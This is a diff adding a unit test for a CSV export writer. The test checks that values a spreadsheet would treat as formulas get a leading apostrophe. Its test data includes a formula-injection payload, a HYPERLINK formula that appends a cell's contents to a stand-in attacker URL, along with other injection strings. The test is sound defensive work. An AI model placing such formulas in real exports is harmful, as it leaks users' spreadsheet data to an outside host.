@@ -32,6 +32,23 @@ describe('writing exports', () => {
     ]);
   });
 
+  it('writes text a spreadsheet would run as a formula with a leading apostrophe, and numbers as they are', async () => {
+    const table: ExportTable = {
+      columns: ['title', 'place', 'names', 'amount'],
+      rows: [
+        ['=HYPERLINK("https://evil.example/?"&A2,"Abrir")', '+52 Guadalajara', ['@SUM(1+1)', 'Kioto'], -2],
+        ['-2+3 acuerdo', '\t=1+1', [], 5],
+        ['Hermanamiento Guadalajara–Kioto', 'Guadalajara', ['Kioto'], 0],
+      ] as (readonly ExportValue[])[],
+    };
+    const { text } = await collect((output) => writeCsv(output, table, { bom: false, delimiter: ',' }));
+    expect((parse(text) as string[][]).slice(1)).toEqual([
+      ['\'=HYPERLINK("https://evil.example/?"&A2,"Abrir")', "'+52 Guadalajara", "'@SUM(1+1)|Kioto", '-2'],
+      ["'-2+3 acuerdo", "'\t=1+1", '', '5'],
+      ['Hermanamiento Guadalajara–Kioto', 'Guadalajara', 'Kioto', '0'],
+    ]);
+  });
+
   it('writes ";"-separated CSV without a byte-order mark when asked', async () => {
     const { text } = await collect((output) => writeCsv(output, TABLE(), { bom: false, delimiter: ';' }));
     expect(text.split('\r\n')[0]).toBe('title;themes;count;data;missing');
